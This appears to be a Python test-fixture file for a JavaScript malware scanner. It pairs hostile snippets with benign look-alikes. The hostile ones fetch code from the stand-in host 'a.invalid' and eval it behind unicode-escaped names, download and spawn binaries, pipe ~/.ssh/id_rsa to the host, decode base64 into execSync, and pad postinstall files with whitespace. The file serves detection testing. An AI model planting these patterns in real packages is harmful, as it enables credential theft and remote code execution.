"""Samples and twins of what is peculiar to JavaScript: how its names are spelt, its objects, streams and modules."""

from inspection.rules.sample import Sample, js, package

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "every name is spelt with escapes": js(
            "const { r\\u{75}nInThisContext: \\u{67}o } = r\\u{65}quire('vm');\n"
            "\\u{66}etch('https://a.invalid').then((\\u0074) => t.t\\u{65}xt()).then((\\u{74}) => g\\u{6f}(\\u0074));\n"
        ),
        "a name is exported with escapes": Sample(
            {
                "app.mjs": "import { \\u{6c}atest as a } from './n.mjs';\neval(await \\u0061());\n",
                "n.mjs": "export async function l\\u0061test() { return (await fetch('https://a.invalid')).text() }\n",
            },
            "block",
            ("app.mjs", 2),
        ),
        "an object of another file asks with the client it was made with": Sample(
            {
                "app.js": "const { Prices } = require('./prices');\n"
                "new Prices(require('axios').create({ timeout: 9 })).load();\n",
                "prices.js": "class Prices {\n  constructor(client) { this.client = client; }\n"
                "  async load() {\n    const reply = await this.client.get('https://a.invalid');\n"
                "    this.show(reply.data);\n  }\n  show(text) { eval(text); }\n}\nmodule.exports = { Prices };\n",
            },
            "block",
            ("prices.js", 7),
        ),
        "it runs what the client it was made with throws": Sample(
            {
                "app.mjs": "import Prices from './prices.mjs';\nimport axios from 'axios';\n"
                "new Prices(axios.create()).load();\n",
                "prices.mjs": "export default class Prices {\n  constructor(client) { this.client = client; }\n"
                "  async load() {\n    try {\n      await this.client.get('https://a.invalid');\n"
                "    } catch (no) {\n      new Function.constructor('a', no.response.data)(1);\n    }\n  }\n}\n",
            },
            "block",
            ("prices.mjs", 7),
        ),
        "methods are called by their keys": js(
            "const after = 'th' + 'en';\nfetch('https://a.invalid')[after]((r) => r['text']())[after](eval);\n"
        ),
        "arguments are spread out of a list of lists": js(
            "const [load] = [['vm']].map((names) => require(...names));\n"
            "fetch('https://a.invalid').then((r) => r.text()).then(load.runInThisContext);\n"
        ),
    },
    "hidden_text": {
        "an option of Node runs a module first": Sample(
            {
                "package.json": package(postinstall="node --title a --import=./first.mjs -r ./b.js main.js"),
                "main.js": "console.log(1);\n",
                "b.js": "console.log(2);\n",
                "first.mjs": "console.log(3);" + " " * 300 + "console.log(4);\n",
            },
            "review",
            ("first.mjs", 1),
        ),
        "an option of Node stands before the script": Sample(
            {
                "package.json": package(postinstall="node -r dotenv/config --env-file .env main.js"),
                "main.js": "console.log(3);" + " " * 300 + "console.log(4);\n",
            },
            "review",
            ("main.js", 1),
        ),
        "an option of the shell stands before the script": Sample(
            {
                "package.json": package(postinstall="bash -euo pipefail main.sh"),
                "main.sh": "echo 1" + " " * 300 + "; echo 2\n",
            },
            "review",
            ("main.sh", 1),
        ),
    },
    "remote_command": {
        "a list of arguments is spread": js(
            "const { execSync: go } = require('child_process');\n"
            "fetch('https://a.invalid').then((r) => r.text()).then((t) => [[t]].forEach((all) => go(...all)));\n"
        ),
        "a download is piped to a file and started": js(
            "const fs = require('fs'), { spawn } = require('child_process');\n"
            "require('https').get('https://a.invalid', (r) => {\n  const out = fs.createWriteStream('/tmp/a');\n"
            "  r.pipe(out).on('finish', () => spawn('/tmp/a'));\n});\n",
            line=4,
        ),
        "a download is unpacked by a pipeline": js(
            "const { pipeline } = require('stream'), { spawn } = require('child_process'), fs = require('fs');\n"
            "require('https').get('https://a.invalid', (r) => pipeline(r, require('zlib').createGunzip(),\n"
            "  fs.createWriteStream('/tmp/a'), () => spawn('/tmp/a')));\n",
            line=3,
        ),
        "a download is written piece by piece": js(
            "const out = require('fs').createWriteStream('/tmp/a');\n"
            "require('https').get('https://a.invalid', (r) => r.on('data', (piece) => out.write(piece)));\n"
            "out.on('finish', () => require('child_process').execFile('/tmp/a'));\n",
            line=3,
        ),
    },
    "secrets_sent": {
        "a key is piped to a server": js(
            "const place = require('os').homedir() + '/.ssh/id_rsa';\n"
            "require('fs').createReadStream(place).pipe(require('https').request('https://a.invalid'));\n"
        ),
    },
    "remote_template": {
        "a part of a reply is spread into the options": js(
            "const { data } = await require('axios').get('https://a.invalid');\n"
            "require('ejs').render('<p>', { n: data.n }, { cache: false, ...data.look });\n"
        ),
        "a part of a reply is spread into what may be options": js(
            "const { data } = await require('axios').get('https://a.invalid');\n"
            "require('ejs').render('<p>', { n: 1, ...data.rows });\n",
            "review",
        ),
    },
    "decoded_code": {
        "names are looked up in a table by a sum": js(
            "const words = ['nothing', 'ZWNobyBoaQ==', 'warn', 'ZXhlY1N5bmM=', 'Y2hpbGRfcHJvY2Vzcw==', 'utf8', 'a'];\n"
            "const word = (n) => Buffer.from(words[(n * 5) % 7], 'base64').toString();\n"
            "require(word(4))[word(2)](word(3));\n",
            line=3,
        ),
        "it stands far from where it is decoded": js(
            "const a = 1;\nconst hidden = 'Y29uc29sZS5sb2coMSk7';\n"
            "const open = (text) => Buffer.from(text, 'base64').toString();\neval(open(hidden));\n"
        ),
        "numbers stand far from where they become text": js(
            "const a = 1;\nconst codes = [\n  99, 111, 110, 115, 111, 108, 101];\n"
            "eval(String.fromCharCode(...codes));\n"
        ),
        "an element of another file's list is decoded": Sample(
            {
                "app.js": "const all = require('./lib/list');\n"
                "const text = Buffer.from(all[1], 'base64').toString();\neval(text);\n",
                "lib/list.js": "module.exports = ['a', 'Y29uc29sZS5sb2coImhlbGxvIik7Y29uc29sZS5sb2coMSk7'];\n",
            },
            "block",
            ("app.js", 2),
        ),
        "an element of another file's list is decrypted": Sample(
            {
                "app.js": "const { notes } = require('./lib/list');\nconst key = process.env.npm_package_name;\n"
                "const way = require('crypto').createDecipher('aes256', key);\n"
                "const text = way.update(notes[0], 'hex', 'utf8') + way.final('utf8');\n"
                "new module.constructor()._compile(text, 'a');\n",
                "lib/list.js": "exports.notes = ['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f0'];\n",
            },
            "block",
            ("app.js", 4),
        ),
        "what comes from outside is decrypted": js(
            "const way = require('crypto').createDecipheriv('aes256', process.env.A, process.env.B);\n"
            "eval(way.update(process.argv[2], 'hex', 'utf8') + way.final('utf8'));\n",
            "review",
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a name that is spelt with escapes and parses": {
            "app.js": "fetch('https://a.invalid').then((\\u0072) => r.text()).then(\\u0074 => JSON.p\\u{61}rse(t).x);\n"
        },
        "it parses what the client it was made with throws": {
            "app.mjs": "import Prices from './prices.mjs';\nimport axios from 'axios';\n"
            "new Prices(axios.create()).load();\n",
            "prices.mjs": "export default class Prices {\n  constructor(client) { this.client = client; }\n"
            "  async load() {\n    try {\n      await this.client.get('https://a.invalid');\n"
            "    } catch (problem) {\n      throw new Error(problem.response.data);\n    }\n  }\n}\n",
        },
        "it runs what it was made with, which is no client": {
            "app.js": "const { Prices } = require('./prices');\nrequire('axios').get('https://a.invalid');\n"
            "new Prices('1 + 1').show();\n",
            "prices.js": "class Prices {\n  constructor(text) { this.text = text; }\n"
            "  show() { eval(this.text); }\n}\nmodule.exports = { Prices };\n",
        },
        "a timer with a method bound to what the network gave": {
            "app.js": "const q = require('https').request('https://a.invalid');\nsetTimeout(q.destroy.bind(q), 10);\n"
        },
        "a method called by its key parses": {
            "app.js": "const k = 'th' + 'en';\nfetch('https://a.invalid')[k]((r) => r.text())[k](JSON.parse);\n"
        },
    },
    "remote_command": {
        "a list of arguments is spread to the console": {
            "app.js": "const { execSync: go } = require('child_process');\ngo('ls');\n"
            "fetch('https://a.invalid').then((r) => r.text()).then((t) => [[t]].forEach((a) => console.log(...a)));\n"
        },
        "a download is piped to a file and another is started": {
            "app.js": "const fs = require('fs'), { spawn } = require('child_process');\n"
            "require('https').get('https://a.invalid', (r) => {\n  const out = fs.createWriteStream('/tmp/a');\n"
            "  r.pipe(out).on('finish', () => spawn('/tmp/b'));\n});\n"
        },
    },
    "secrets_sent": {
        "a key is piped to the terminal": {
            "app.js": "const place = require('os').homedir() + '/.ssh/id_rsa';\n"
            "require('https').request('https://a.invalid').end();\n"
            "require('fs').createReadStream(place).pipe(process.stdout);\n"
        },
    },
    "remote_template": {
        "a reply is spread into the data, beside options": {
            "app.js": "const { data } = await require('axios').get('https://a.invalid');\n"
            "require('ejs').render('<p>', { n: 1, ...data.rows }, { cache: false });\n"
        },
        "options of one's own are spread": {
            "app.js": "const { data } = await require('axios').get('https://a.invalid');\nconst own = { c: 1 };\n"
            "require('ejs').render('<p>', { n: data.n }, { client: true, ...own });\n"
        },
    },
    "unread_code": {
        "an option of Node names a package": {
            "package.json": package(postinstall="node -r dotenv/config main.js"),
            "main.js": "console.log(1);\n",
        },
        "an option of Python has a value": {
            "package.json": package(postinstall="python -W ignore main.py"),
            "main.py": "print(1)\n",
        },
    },
    "decoded_code": {
        "an element of another file's list is decoded and parsed": {
            "app.js": "const all = require('./lib/list');\n"
            "console.log(JSON.parse(Buffer.from(all[1], 'base64').toString()));\neval('1 + 1');\n",
            "lib/list.js": "module.exports = ['a', 'eyJhIjogWzEsIDIsIDMsIDQsIDUsIDYsIDcsIDgsIDldfQ=='];\n",
        },
        "words are looked up in a table by a sum": {
            "app.js": "require('child_process').exec('ls');\n"
            "const words = ['nothing', 'ZWNobyBoaQ==', 'warn', 'ZXhlY1N5bmM=', 'Y2hpbGRfcHJvY2Vzcw==', 'utf8', 'a'];\n"
            "const word = (n) => Buffer.from(words[(n * 5) % 7], 'base64').toString();\n"
            "console[['warn', 'table'][word(2).length % 2]](word(3));\n"
        },
    },
}
